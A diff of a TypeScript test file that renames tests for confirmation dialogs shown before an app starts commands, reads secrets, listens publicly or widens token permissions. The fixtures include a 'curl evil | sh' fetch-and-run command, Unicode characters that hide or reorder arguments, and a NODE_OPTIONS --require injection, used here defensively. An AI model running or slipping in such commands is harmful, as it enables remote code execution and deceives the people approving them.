@@ -9,7 +9,7 @@ import { confirmLocalToken, confirmTokenUpdate } from '../../src/main/ipc/token-
 import { startTestEngine } from '../support/start-test-engine.ts'
 
 describe('confirmations outside the page before a connection is created', () => {
-  test('a command is confirmed with each argument and its folder', () => {
+  test('show each argument of a command and its folder', () => {
     const question = confirmConnection({
       name: 'files',
       config: { kind: 'mcp', command: 'sh', args: ['-c', 'curl evil | sh'], cwd: '/tmp' },
@@ -18,13 +18,13 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(question?.detail).toContain('    sh\n    -c\n    "curl evil | sh"\nWorking directory: /tmp')
   })
 
-  test('a command shows the characters that would hide or reorder it', () => {
+  test('show characters of a command that would hide or reorder it', () => {
     const config = { kind: 'mcp' as const, command: 'C:\\tools\\run.exe', args: ['a\u202eb', 'c\u200bd', 'e\u0085f'] }
     const detail = confirmConnection({ name: 'files', config })?.detail
     expect(detail).toContain('    C:\\tools\\run.exe\n    "a\\u{202e}b"\n    "c\\u{200b}d"\n    "e\\u{85}f"')
   })
 
-  test('a file or variable is confirmed with where its secret goes', () => {
+  test('show where the secret from a file or variable goes', () => {
     const http = confirmConnection({
       name: 'api',
       config: { kind: 'http', url: 'https://api.example.com', auth: { type: 'bearer' } },
@@ -41,13 +41,13 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(confirmSecret({ name: 'api', secret: { ref: 'env:HOME' } })?.detail).toContain('env:HOME')
   })
 
-  test('an address beyond this computer is confirmed, and pages that may call', () => {
+  test('ask about an address beyond this computer, and about pages that may call', () => {
     expect(confirmSettings({ host: '0.0.0.0' })?.detail).toContain('listens on 0.0.0.0')
     expect(confirmSettings({ allowed_origins: ['https://evil.example'] })?.detail).toContain('https://evil.example')
     expect(confirmSettings({ host: '127.0.0.1', allowed_origins: [], log_days: 7 })).toBeNull()
   })
 
-  test('shows characters that would hide a part of it', () => {
+  test('show characters that would hide a part of it', () => {
     const question = confirmConnection({
       name: 'files',
       config: { kind: 'mcp', command: 'echo', args: ['a\u202eb', 'x\nin /home'] },
@@ -57,7 +57,7 @@ describe('confirmations outside the page before a connection is created', () => 
     expect(question?.detail).toContain('"x\\nin /home"')
   })
 
-  test('what starts nothing and reads nothing is not asked about', () => {
+  test('are skipped for what starts nothing and reads nothing', () => {
     expect(
       confirmConnection({
         name: 'crm',
@@ -76,23 +76,23 @@ describe('confirmations outside the page before a connection is created', () => 
   })
 })
 
-describe('what is asked outside of the page before a token can do more', () => {
+describe('confirmations outside the page before a token gains permissions', () => {
   const update = (set: object) => ({ project: 'demo', name: 'agent', revision: 1, set }) as never
   const owner = (added: object[]) => ({ tokens: { previewUpdate: async () => ({ added }) } }) as never
   const permit = (resource: string | null) => ({ connection: 'sales', permission: 'write', limit: null, resource })
 
-  test('each permission that is added is, as the engine says it', async () => {
+  test("show each added permission in the engine's words", async () => {
     const question = await confirmTokenUpdate(update({ grants: [] }), owner([permit(null), permit('Ord\u202eers')]))
     expect(question?.message).toBe('Give token "agent" more permissions?')
     expect(question?.detail).toContain('    write on sales\n    write on sales: Ord\\u{202e}ers')
   })
 
-  test('a long list is cut, with the number of what is left out', async () => {
+  test('shorten a long list, with the number of hidden lines', async () => {
     const many = Array.from({ length: 50 }, (_, index) => permit(`T${index}`))
     expect((await confirmTokenUpdate(update({ grants: [] }), owner(many)))?.detail).toMatch(/and 30 more$/)
   })
 
-  test('a local token that takes the place of another is', () => {
+  test('ask about a local token that replaces another', () => {
     const local = { project: 'demo', name: 'claude', kind: 'local' as const }
     expect(confirmLocalToken({ ...local, force: true, clone: true })?.detail).toContain('everything in the project')
     expect(
@@ -106,7 +106,7 @@ describe('what is asked outside of the page before a token can do more', () => {
     expect(confirmLocalToken({ ...local, kind: 'access', force: true, clone: true })).toBeNull()
   })
 
-  test('a change that adds nothing is not asked about', async () => {
+  test('are skipped for a change that adds nothing', async () => {
     expect(await confirmTokenUpdate(update({ grants: [] }), owner([]))).toBeNull()
     expect(
       await confirmTokenUpdate(update({ description: 'x', ttl: 'never', rate: null }), owner([permit(null)])),
@@ -114,7 +114,7 @@ describe('what is asked outside of the page before a token can do more', () => {
   })
 })
 
-test('a real engine says which permissions of a token would be new', async () => {
+test('use what a real engine reports as new permissions', async () => {
   await using engine = await startTestEngine()
   await engine.owner.tokens.create({
     project: 'demo',
@@ -149,7 +149,7 @@ describe('changes of a connection', () => {
     expect(await confirmConnectionUpdate({ name: 'up', revision: 1, set: { config: same } }, owner)).toBeNull()
   })
 
-  test('ask before a connection reads a file as its secret, and not for a name, a pause or a typed secret', async () => {
+  test('ask before a connection reads a file as its secret, but not for a name, a pause or a typed secret', async () => {
     const owner = { connections: { config: async () => ({ kind: 'grist' as const, url: 'https://grist.example' }) } }
     const ask = (set: Parameters<typeof confirmConnectionUpdate>[0]['set']) =>
       confirmConnectionUpdate({ name: 'crm', revision: 1, set }, owner)
@@ -158,7 +158,7 @@ describe('changes of a connection', () => {
     expect(await ask({ secret: { value: 'typed' } })).toBeNull()
   })
 
-  test('show the variables of a command also if a reference comes with it', async () => {
+  test('show the variables of a command also together with a reference', async () => {
     const owner = { connections: { config: async () => ({ kind: 'mcp' as const, command: 'server' }) } }
     const config = { kind: 'mcp' as const, command: 'server', env: { NODE_OPTIONS: 'plain:--require /tmp/x' } }
     const set = { config, secret: { ref: 'env:X' } }
